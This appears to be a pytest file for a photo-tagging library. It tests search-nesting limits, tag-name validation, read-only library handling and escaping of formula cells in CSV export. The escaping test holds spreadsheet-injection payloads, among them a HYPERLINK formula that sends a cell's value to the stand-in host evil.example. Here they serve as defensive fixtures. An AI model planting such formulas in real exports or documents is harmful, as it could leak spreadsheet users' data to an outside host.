"""Issue 20's hostile cases, on a real library file: deep searches, formula cells in the CSV
export, unusable tag names, and libraries this process cannot write."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest

from tagassist.library import (
    Library,
    LibraryError,
    OlderSchemaError,
    QuerySyntaxError,
    export_csv,
    export_json,
)
from tagassist.library.errors import LibraryReadOnlyError
from tagassist.library.migrations import migrate
from tagassist.library.names import MAX_NAME_CHARS, MAX_PATH_CHARS, problem
from tagassist.library.query import MAX_DEPTH, parse

from .conftest import add_items

# --- helpers: a file or folder this process cannot write, root included -------------------


@contextmanager
def unwritable(path: Path) -> Iterator[None]:
    """Make ``path`` (a file or a folder) read-only for this process.

    The permission bits (0444 / 0555) are what a user meets; root ignores them, so as root
    the file is also made immutable (``chattr +i``), which the kernel enforces for root too.
    Skips the test where neither can be done (root on a filesystem without the attribute).
    """
    mode = path.stat().st_mode
    path.chmod(0o555 if path.is_dir() else 0o444)
    immutable = False
    try:
        if os.access(path, os.W_OK) and shutil.which("chattr"):
            immutable = subprocess.run(["chattr", "+i", str(path)],
                                       capture_output=True).returncode == 0
        if os.access(path, os.W_OK):
            pytest.skip("cannot make a file read-only here (root without chattr +i)")
        yield
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", str(path)], check=True)
        path.chmod(mode)


def listing(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def a_library(path: Path) -> None:
    """A closed library at ``path``: ann, two items, a tag each."""
    with Library.open(path) as lib:
        ann = lib.users.add("ann")
        a, b = add_items(lib, 2)
        lib.assignments.assign(ann.id, [a], ["beach"])
        lib.assignments.assign(ann.id, [b], ["places|Europe|Paris"])


def assert_reads_but_refuses_writes(lib: Library, reason: str) -> None:
    assert lib.read_only and reason in (lib.read_only_reason or "")
    assert [u.name for u in lib.users.all()] == ["ann"]
    assert {t.path for t in lib.tags.all()} >= {"beach", "places|Europe|Paris"}
    assert len(lib.queries.search("beach OR Europe")) == 2
    assert lib.users.get_or_create("ann").name == "ann"  # found: nothing to write
    with pytest.raises(LibraryReadOnlyError,
                       match=f"^The library is read-only: {reason}.*nothing was saved"):
        lib.assignments.assign(lib.users.all()[0].id, [1], ["sea"])
    with pytest.raises(LibraryReadOnlyError, match="read-only"):
        lib.users.add("bob")


# --- 2. searches nested too deep -----------------------------------------------------------


def nested(depth: int) -> str:
    """``(t1 OR (t2 AND NOT (t3 OR ... t0)))``: ``depth`` levels, none of them redundant."""
    text = "t0"
    for k in range(1, depth + 1):
        text = f"(t{k} {'OR' if k % 2 else 'AND NOT'} {text})"
    return text


def test_parentheses_deeper_than_the_limit_are_a_syntax_error(lib: Library) -> None:
    """300 nested parentheses ended in RecursionError (issue 20)."""
    with pytest.raises(QuerySyntaxError) as caught:
        parse("(" * 300 + "beach" + ")" * 300)
    assert caught.value.position == MAX_DEPTH  # the first '(' too many
    assert str(caught.value).startswith(
        f"Invalid search at position {MAX_DEPTH}: parentheses nested more than {MAX_DEPTH} "
        "deep; write the search with fewer levels")
    with pytest.raises(QuerySyntaxError, match="nested more than"):
        lib.queries.search(nested(MAX_DEPTH + 1))

    # Up to the limit, even the least foldable nesting parses, compiles and runs in SQLite.
    ann = lib.users.add("ann")
    ids = add_items(lib, MAX_DEPTH + 1)
    for k, item in enumerate(ids):
        lib.assignments.assign(ann.id, [item], [f"t{k}"], undoable=False)
    found = lib.queries.search(nested(MAX_DEPTH))
    assert found == sorted(found) and ids[MAX_DEPTH] in found and ids[0] not in found
    assert lib.queries.search("(" * MAX_DEPTH + "t3" + ")" * MAX_DEPTH) == [ids[3]]


def test_a_long_chain_of_nots_needs_no_limit(lib: Library) -> None:
    ann = lib.users.add("ann")
    a, b = add_items(lib, 2)
    lib.assignments.assign(ann.id, [a], ["beach"])
    assert lib.queries.search("NOT " * 5000 + "beach") == [a]  # even: beach
    assert lib.queries.search("NOT " * 5001 + "beach") == [b]  # odd: everything else


# --- 4. the CSV export cannot carry formulas -----------------------------------------------


def test_csv_cells_that_would_be_formulas_are_escaped_json_is_not(lib: Library,
                                                                  tmp_path: Path) -> None:
    evil = lib.users.add("@SUM(1+1)")
    tags = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1", "-2+3", "'90s", "beach"]
    item, _ = lib.items.upsert("h1", "photo", '=HYPERLINK("http://evil.example")', 1, 1.0)
    lib.items.upsert("h1", "photo", "/photos/=cmd.jpg", 1, 1.0)  # its second path
    lib.assignments.assign(evil.id, [item.id], tags, model_version="-m1", rank=-1)

    with export_csv(lib, tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["tag"] for r in rows} == {
        '\'=HYPERLINK("http://evil.example/?x="&A1;"click")', "'+1", "'-2+3", "''90s", "beach"}
    assert {r["user"] for r in rows} == {"'@SUM(1+1)"}
    assert {r["model_version"] for r in rows} == {"'-m1"}
    assert {r["rank"] for r in rows} == {"-1"}  # a number stays a number
    assert {r["item_paths"] for r in rows} == {
        '\'=HYPERLINK("http://evil.example");/photos/=cmd.jpg'}
    for row in rows:  # nothing a spreadsheet would evaluate, and the rule can be undone
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()
                       if v != row["rank"])
    assert {r["tag"][1:] if r["tag"].startswith("'") else r["tag"] for r in rows} == set(tags)

    doc = json.loads(export_json(lib, tmp_path / "out.json").read_text(encoding="utf-8"))
    assert {r["tag"] for r in doc["assignments"]} == set(tags)  # JSON: the values as they are
    assert {r["user"] for r in doc["assignments"]} == {"@SUM(1+1)"}


def test_tab_and_carriage_return_cells_are_escaped(lib: Library, tmp_path: Path) -> None:
    ann = lib.users.add("ann")
    tab, _ = lib.items.upsert("h1", "photo", "\t=1+1", 1, 1.0)
    cr, _ = lib.items.upsert("h2", "photo", "\r=1+1", 1, 1.0)
    lib.assignments.assign(ann.id, [tab.id, cr.id], ["beach"])
    with export_csv(lib, tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
        assert sorted(r["item_paths"] for r in csv.DictReader(fh)) == ["'\t=1+1", "'\r=1+1"]


# --- 5. tag names: no control characters, bounded length -----------------------------------


@pytest.mark.parametrize(("name", "message"), [
    ("bell\x07", "tag names cannot contain control characters (it has U+0007)"),
    ("nul\x00byte", "tag names cannot contain control characters (it has U+0000)"),
    ("esc\x1b[31mred", "tag names cannot contain control characters (it has U+001B)"),
    ("places|del\x7f", "tag names cannot contain control characters (it has U+007F)"),
    ("x" * 100_000, f"tag names are at most {MAX_NAME_CHARS} characters (this one has "
                    "100,000)"),
    ("places|" + "y" * (MAX_NAME_CHARS + 1), f"tag names are at most {MAX_NAME_CHARS} "
                                             "characters"),
    ("|".join(["z" * 100] * 10) + "|a", f"tag paths are at most {MAX_PATH_CHARS:,} "
                                        "characters (this one has 1,011)"),
    ("bad\udcffbytes", "it is not valid text"),
])
def test_unusable_tag_names_are_refused_with_the_reason(lib: Library, name: str,
                                                        message: str) -> None:
    ann = lib.users.add("ann")
    [item] = add_items(lib, 1)
    lib.assignments.assign(ann.id, [item], ["beach"])
    before = {t.path for t in lib.tags.all()}
    assert message in (problem(name) or "")
    with pytest.raises(LibraryError, match="^Invalid tag (name|path) ") as caught:
        lib.assignments.assign(ann.id, [item], ["fine", name])  # one transaction: none made
    assert message in str(caught.value)
    assert len(str(caught.value)) < 300  # a 100,000-character name is not repeated
    with pytest.raises(LibraryError, match="^Invalid tag"):
        lib.tags.get_or_create(name)
    with pytest.raises(LibraryError, match="^Invalid tag"):
        lib.tags.rename("beach", name.replace("|", " "))
    assert {t.path for t in lib.tags.all()} == before
    assert [t.path for t in lib.assignments.tags_of(item)] == ["beach"]


def test_the_limits_themselves_are_allowed_and_whitespace_is_cleaned(lib: Library) -> None:
    assert lib.tags.get_or_create("a" * MAX_NAME_CHARS).name == "a" * MAX_NAME_CHARS
    path = "|".join(["p" * 99] * 10)  # 999 characters
    assert len(lib.tags.get_or_create(path).path) == len(path) <= MAX_PATH_CHARS
    assert lib.tags.get_or_create("new\tyork\n").name == "new york"  # cleaned, not refused
    with pytest.raises(LibraryError, match="cannot contain control characters"):
        lib.tags.add_alias("a" * MAX_NAME_CHARS, "alias\x01")
    with pytest.raises(LibraryError, match="at most"):
        lib.tags.add_alias("a" * MAX_NAME_CHARS, "b" * (MAX_NAME_CHARS + 1))


def test_tags_made_before_the_rules_can_still_be_used_and_fixed(lib: Library,
                                                                lib_path: Path) -> None:
    ann = lib.users.add("ann")
    [item] = add_items(lib, 1)
    old = "old\x01tag"
    # Stored as an older TagAssist did, before names were checked:
    with closing(sqlite3.connect(lib_path, isolation_level=None)) as raw:
        raw.execute("INSERT INTO tags (name, normalized, created) VALUES (?, ?, 't')",
                    (old, old))
    lib.assignments.assign(ann.id, [item], [old])  # exists: assigning it makes nothing
    assert lib.queries.search(f'"{old}"') == [item]
    assert lib.tags.rename(old, "old tag").path == "old tag"
    assert [t.path for t in lib.assignments.tags_of(item)] == ["old tag"]


def test_a_bad_search_word_is_a_syntax_error_not_a_crash(lib: Library) -> None:
    with pytest.raises(QuerySyntaxError, match="invalid tag name"):
        lib.queries.search("beach AND bad\udcff")


# --- 6. a library this process cannot write ------------------------------------------------


def test_opened_read_only_on_request_reads_and_refuses_writes(lib_path: Path) -> None:
    a_library(lib_path)
    with Library.open(lib_path, read_only=True) as lib:
        assert_reads_but_refuses_writes(lib, "it was opened read-only")
        with Library.open(lib_path) as writer:  # a writable library: a writer may come,
            writer.users.add("bob")  # and the reader, going through SQLite's locks, sees it
            assert [u.name for u in lib.users.all()] == ["ann", "bob"]
            assert not writer.read_only
    with Library.open(lib_path) as lib:
        assert [u.name for u in lib.users.all()] == ["ann", "bob"]


def test_a_read_only_folder_is_opened_read_only(lib_path: Path) -> None:
    """Issue 20: a read-only library folder made even ``tag-counts`` fail."""
    a_library(lib_path)
    before = listing(lib_path.parent)
    with unwritable(lib_path.parent):
        with Library.open(lib_path) as lib:
            assert_reads_but_refuses_writes(lib, f"its folder {lib_path.parent} cannot be "
                                                 "written")
        with pytest.raises(LibraryError, match="^Cannot create a library at .*its folder"):
            Library.open(lib_path.parent / "new.db")
    assert listing(lib_path.parent) == before
    with Library.open(lib_path) as lib:  # writable again: an ordinary library
        assert not lib.read_only and lib.read_only_reason is None
        lib.users.add("bob")


def test_a_read_only_file_leaves_no_read_only_wal_or_shm_behind(lib_path: Path) -> None:
    """Issue 20: "-wal/-shm files were left with mode 0444".  Nothing of ours chmods them:
    SQLite gives the -wal and -shm it creates the database file's mode, and a read-only
    connection leaves them behind - where, once the file was writable again, they kept the
    library read-only.  A read-only opening of a closed library now creates neither."""
    a_library(lib_path)
    with unwritable(lib_path):
        with Library.open(lib_path) as lib:
            assert_reads_but_refuses_writes(lib, f"the file {lib_path} cannot be written")
        assert sorted(p.name for p in lib_path.parent.iterdir()) == [lib_path.name]
    with Library.open(lib_path) as lib:
        lib.users.add("bob")  # and it is writable again at once


def test_a_read_only_folder_of_a_library_in_use_reads_its_wal(lib_path: Path) -> None:
    """With a -wal file (another program has the library open) the reader goes through it:
    it sees what that program commits, even after it opened."""
    a_library(lib_path)
    with Library.open(lib_path) as writer:
        writer.users.add("bob")
        with unwritable(lib_path.parent):
            with Library.open(lib_path) as reader:
                assert reader.read_only
                assert [u.name for u in reader.users.all()] == ["ann", "bob"]
                writer.users.add("cid")  # the WAL and -shm exist: the writer goes on
                assert [u.name for u in reader.users.all()] == ["ann", "bob", "cid"]


def test_a_wal_without_shm_in_a_read_only_folder_is_a_clear_error(lib_path: Path,
                                                                   tmp_path: Path) -> None:
    a_library(lib_path)
    copy = tmp_path / "copy" / lib_path.name
    copy.parent.mkdir()
    with Library.open(lib_path) as writer:  # a crash's leftovers: the file and its -wal
        writer.users.add("bob")
        for suffix in ("", "-wal"):
            shutil.copyfile(f"{lib_path}{suffix}", f"{copy}{suffix}")
    with unwritable(copy.parent):
        with pytest.raises(LibraryError, match="cannot be read: it is read-only .*-wal file"):
            Library.open(copy)


def test_an_older_library_in_a_read_only_folder_says_why_it_cannot_be_upgraded(
        tmp_path: Path) -> None:
    path = tmp_path / "lib" / "old.db"
    path.parent.mkdir()
    conn = sqlite3.connect(path, isolation_level=None)
    migrate(conn, str(path), target=2)
    conn.close()
    with unwritable(path.parent):
        with pytest.raises(OlderSchemaError, match="cannot be upgraded: the library is "
                                                   "read-only \\(its folder"):
            Library.open(path)
